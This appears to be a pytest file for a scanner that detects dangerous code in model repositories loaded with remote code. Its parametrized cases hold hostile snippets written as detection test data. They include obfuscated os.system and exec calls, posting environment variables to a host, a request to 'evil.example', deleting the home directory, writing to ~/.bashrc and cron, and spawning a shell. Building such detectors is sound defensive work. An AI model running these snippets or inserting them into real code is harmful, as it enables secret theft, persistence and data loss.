# ruff: noqa: E501 (a row of a table is one case)
from __future__ import annotations

import json
from pathlib import Path

import pytest

from ossmodelkit.core.finding import Severity
from ossmodelkit.scanning.python_reach import deeds
from tests.making.blobs import flagged, scan

MODELING = '''
"""A model in the manner of the hub."""
import importlib.util
import math, os, json, re
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, Optional
import numpy as np
import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel, AutoModel
from transformers.utils import logging
from .configuration_x import XConfig
if TYPE_CHECKING:
    import subprocess

logger = logging.get_logger(__name__)
os.environ["TOKENIZERS_PARALLELISM"] = "false"
CACHE = os.environ.get("X_CACHE", None)
try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None
if importlib.util.find_spec("xformers") is not None:
    xops = importlib.import_module("xformers.ops")
ACT = {"gelu": F.gelu, "silu": F.silu}
compiled = torch.compile
pattern = re.compile(r"(\\\\d+)")

@dataclass
class Output:
    logits: Optional[torch.Tensor] = None

class XModel(PreTrainedModel):
    config_class = XConfig
    def __init__(self, config):
        super().__init__(config)
        dtype = getattr(torch, config.torch_dtype)
        self.code = []
        self.code.append(1)
        self.act = ACT[config.hidden_act]
        self.layers = nn.ModuleList([nn.Linear(2, 2) for _ in range(config.n)])
        self.post_init()
    @torch.jit.script
    def run(x): return x
    def forward(self, input_ids, compile=None, **kw):
        with torch.no_grad():
            x = F.softmax(input_ids, dim=-1)
        for name, p in self.named_parameters():
            setattr(self, name, p)
            getattr(self, name)
        self.eval()
        return Output(logits=x)
    def _init_weights(self, module):
        module.weight.data.normal_()
        print(self.__class__.__name__, type(self).__mro__)
    @classmethod
    def from_pretrained(cls, path, *a, **k):
        with open(os.path.join(path, "extra.json"), encoding="utf-8") as f:
            extra = json.load(f)
        state = torch.load(os.path.join(path, "x.bin"), map_location="cpu", weights_only=True)
        return super().from_pretrained(path, *a, **k)

class XTokenizer:
    def save_vocabulary(self, folder, prefix=None):
        import shutil
        out = os.path.join(folder, "vocab.txt")
        if os.path.abspath(self.vocab_file) != os.path.abspath(out):
            shutil.copyfile(self.vocab_file, out)
        with open(out, "w", encoding="utf-8") as f:
            f.write("x")
        return (out,)

if __name__ == "__main__":
    import subprocess
    subprocess.run(["ls"])
'''


def worst(text: str) -> Severity:
    return max((deed.severity for deed in deeds(text)), key=lambda s: s.rank, default=Severity.INFO)


def test_a_modeling_file_of_the_hub_is_left_alone() -> None:
    assert [deed for deed in deeds(MODELING) if deed.severity.rank >= 2] == []


@pytest.mark.parametrize(
    "text",
    [
        "import os\nos.system('id')",
        "from os import system as s\ns('id')",
        "from os import *\nsystem('id')",
        "__import__('os').system('id')",
        "import importlib\nimportlib.import_module('o'+'s').popen('id')",
        "import importlib as i\nm = i.import_module('subprocess')\nm.run(['id'])",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import os\nf = getattr(os, ''.join(['sys','tem']))\nf('id')",
        "import sys\nsys.modules['os'].system('id')",
        "import logging\nlogging.os.system('id')",
        "import builtins\nbuiltins.exec('1')",
        "import builtins\ngetattr(builtins, 'ex' + 'ec')('1')",
        "exec(open('x').read())",
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "import base64, zlib\neval(compile(zlib.decompress(b''), 'x', 'exec'))",
        "class A:\n  def forward(self):\n    import subprocess\n    subprocess.check_output('id')",
        "class A:\n  x = eval('1')",
        "def f(x=__import__('os').system('id')): pass",
        "@exec\n@str\nclass A: pass",
        "list(map(eval, ['1']))",
        "f = eval\nf('1')",
        "import os\nx = os.system\nx('id')",
        "globals()['__builtins__']['exec']('1')",
        "import marshal, types\ntypes.FunctionType(marshal.loads(b''), {})()",
        "import pty\npty.spawn('sh')",
        "from torch.utils.cpp_extension import load_inline\nload_inline('x', 'y')",
        "import ctypes\nctypes.CDLL('x.so')",
        "import pickle\npickle.load(open('x','rb'))",
        "().__class__.__bases__[0].__subclasses__()",
        "import os, requests\nrequests.post('http://x', json=dict(os.environ))",
        "import urllib.request\nurllib.request.urlopen('http://x')",
        "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
        "open('/tmp/x', 'w').write('x')",
        "from pathlib import Path\nPath('/tmp/x').write_text('x')",
        "import socket\ndef forward(x):\n  s = socket.socket()\n  s.connect(('h', 1))",
        "import os\nos.environ['LD_PRELOAD'] = 'x.so'",
        "import atexit\natexit.register(print)",
        "n = input\n__import__(n)",
        "import pip\npip.main(['install','x'])",
        "import numpy.f2py as f\nf.compile(b'x')",
        "try:\n  pass\nexcept Exception:\n  import os\n  os.popen('x')",
        "with open('x') as f:\n  exec(f.read())",
        "lambda: __import__('os').system('id')",
        "import codecs\nimport importlib\nimportlib.import_module(codecs.decode('bf','rot13')).system('id')",
        "import requests\ndef helper(x):\n  return requests.get('http://evil.example/?q=' + x)",
        "import os\ndef helper():\n  open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
        "from pathlib import Path\ndef helper():\n  Path('/etc/cron.d/x').write_text('x')",
        "from ctypes import *\ncdll.LoadLibrary('x.so').f()",
        "import operator, os\noperator.methodcaller('system', 'id')(os)",
        "from operator import attrgetter as a\nimport os\na('system')(os)('id')",
        "import sys\nsys.meta_path.insert(0, object())",
        "import builtins\nsetattr(builtins, 'open', None)",
        "from git import Repo\nRepo.clone_from('http://x', 'y')",
        "match 1:\n  case 1:\n    import os\n    os.system('x')",
        "globals()['__builtins__'].exec('1')",
        "'{0.__class__.__init__.__globals__}'.format(1)",
        "import numexpr\nnumexpr.evaluate(\"__import__('os').system('id')\")",
        "class A:\n  x: \"__import__('os').system('id')\"",
        "import sqlite3\nsqlite3.connect('x').enable_load_extension(True)",
        "import sys\nsys.path.insert(0, '/tmp/x')\nimport evil",
        "import logging.config\nlogging.config.fileConfig('x.conf')",
        "from transformers import AutoModel\nAutoModel.from_pretrained('other/repo', trust_remote_code=True)",
    ],
)
def test_code_that_reaches_out_is_flagged(text: str) -> None:
    assert worst(text).rank >= Severity.MEDIUM.rank


@pytest.mark.parametrize(
    "text",
    [
        "code = []\ncode.append(1)\nsh = 3\nsh.x()",
        "def compile(x): return x\ncompile(3)",
        "class A:\n  def eval(self): pass\n  def g(self): return self.eval()",
        "import re\nre.compile('x')",
        "import yaml\nyaml.load('x', Loader=yaml.SafeLoader)",
        "import os\nos.path.join('a')\nos.makedirs('x', exist_ok=True)",
        "import torch\ntorch.exec = 1\nmodel = torch.nn.Module()\nmodel.eval()",
        "import base64\nbase64.b64decode('aGk=')",
        "open('x').read()\nopen('x', 'rb')",
        "import subprocess_like\nrequests = []\nrequests.append(1)",
        "import requests\ndef load_image(path):\n  return requests.get(path, stream=True)",
        "def save(path):\n  open(path, 'w').write('x')",
        "import time\ntime.sleep(0)\nsocket = None",
        "import os, sys\nsys.path.append(os.path.dirname(__file__))",
        "from transformers import AutoModel\ndef f(config):\n  AutoModel.from_config(config, trust_remote_code=True)",
        "'{x} and {y}'.format(x=1, y=2)",
    ],
)
def test_ordinary_code_is_left_alone(text: str) -> None:
    assert worst(text).rank < Severity.MEDIUM.rank


def repo(folder: Path, **files: object) -> Path:
    for name, content in files.items():
        path = folder / name.replace("__", "/").replace("_dot_", ".")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content if isinstance(content, str) else json.dumps(content))
    return folder


AUTO = {"auto_map": {"AutoModel": "modeling_x.XModel", "AutoConfig": "configuration_x.XConfig"}}
CONFIGURATION = "from transformers import PretrainedConfig\nclass XConfig(PretrainedConfig): pass\n"


def test_clean_remote_code_is_a_remark(tmp_path: Path) -> None:
    repo(tmp_path, config_dot_json=AUTO, modeling_x_dot_py=MODELING, configuration_x_dot_py=CONFIGURATION)
    found = scan(tmp_path)
    assert found.verdict == "clean"
    assert {f.check for f in found.answers.findings if f.severity == "info"} >= {"needs-remote-code"}


def test_code_is_followed_through_relative_imports(tmp_path: Path) -> None:
    repo(
        tmp_path,
        config_dot_json={"auto_map": {"AutoModel": "modeling_x.XModel"}},
        modeling_x_dot_py="from .lib import helper\nfrom .pkg.deep import y\n",
        lib_dot_py="from . import inner\n",
        inner_dot_py="import os\nos.system('id')\n",
        pkg__deep_dot_py="from ..other import z\n",
        other_dot_py="eval('1')\n",
    )
    found = [f for f in scan(tmp_path).answers.findings if f.check == "python-reaches-out"]
    assert {f.at.path for f in found} == {"inner.py", "other.py"}


def test_code_that_no_loader_imports_is_a_remark(tmp_path: Path) -> None:
    repo(tmp_path, config_dot_json={"model_type": "bert"}, train_dot_py="import os\nos.system('ls')\n")
    found = scan(tmp_path)
    assert found.verdict == "clean"
    assert [f.check for f in found.answers.findings] == ["python-unreached"]


def test_unparsable_remote_code_is_incomplete(tmp_path: Path) -> None:
    repo(tmp_path, config_dot_json={"auto_map": {"AutoModel": "modeling_x.X"}}, modeling_x_dot_py="print 'x'\n")
    assert scan(tmp_path).verdict == "incomplete"


@pytest.mark.parametrize(
    "files",
    [
        pytest.param({"tokenizer_config_dot_json": {"auto_map": {"AutoTokenizer": ["tokenization_x.T", None]}}, "tokenization_x_dot_py": "eval('1')"}, id="tokenizer"),
        pytest.param({"preprocessor_config_dot_json": {"auto_map": {"AutoProcessor": "p.P"}}, "p_dot_py": "eval('1')"}, id="processor"),
        pytest.param({"config_dot_json": {"model_file": "m.py"}, "m_dot_py": "eval('1')"}, id="mlx-lm"),
        pytest.param({"x_dot_py": "import datasets\neval('1')\nclass X(datasets.GeneratorBasedBuilder):\n  pass\n"}, id="script of a data set"),
        pytest.param({"config_dot_json": {"auto_map": {"AutoModel": "a.X"}}, "a_dot_py": "import importlib\nimportlib.import_module('.b', __package__)\n", "b_dot_py": "eval('1')"}, id="import by a text"),
        pytest.param({"config_dot_json": {"text_config": {"auto_map": {"AutoModel": "m.M"}}}, "m_dot_py": "eval('1')"}, id="nested config"),
        pytest.param({"config_dot_json": {"custom_pipelines": {"t": {"impl": "pipe.P"}}}, "pipe_dot_py": "eval('1')"}, id="custom pipeline"),
        pytest.param({"config_dot_json": {}, "custom_generate__generate_dot_py": "eval('1')"}, id="custom generate"),
        pytest.param({"config_dot_json": {}, "handler_dot_py": "eval('1')"}, id="endpoint handler"),
        pytest.param({"model_index_dot_json": {"_class_name": ["pipeline", "MyPipeline"]}, "pipeline_dot_py": "eval('1')"}, id="diffusers pipeline"),
        pytest.param({"model_index_dot_json": {"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "U"]}, "unet__my_unet_dot_py": "eval('1')"}, id="diffusers component"),
        pytest.param({"modules_dot_json": [{"idx": 0, "path": "", "type": "custom_st.Transformer"}], "custom_st_dot_py": "eval('1')"}, id="sentence-transformers"),
        pytest.param({"MLmodel": "flavors:\n  python_function:\n    loader_module: my_loader\n    code: code\n", "code__my_loader_dot_py": "eval('1')"}, id="MLflow"),
        pytest.param({"config_dot_json": {}, "setup_dot_py": "eval('1')"}, id="setup.py"),
        pytest.param({"config_dot_json": {}, "1__model_dot_py": "eval('1')"}, id="Triton"),
        pytest.param({"config_dot_json": {}, "sitecustomize_dot_py": "eval('1')"}, id="sitecustomize"),
        pytest.param({"unet__config_dot_json": {"auto_map": {"AutoModel": "m.M"}}, "unet__m_dot_py": "eval('1')"}, id="component"),
        pytest.param({"modeling_dot_py": "import os\nos.system('x')"}, id="the file alone"),
    ],
)  # fmt: skip
def test_every_loader_field_leads_to_its_code(tmp_path: Path, files: dict[str, object]) -> None:
    assert "python-reaches-out" in flagged(repo(tmp_path, **files))
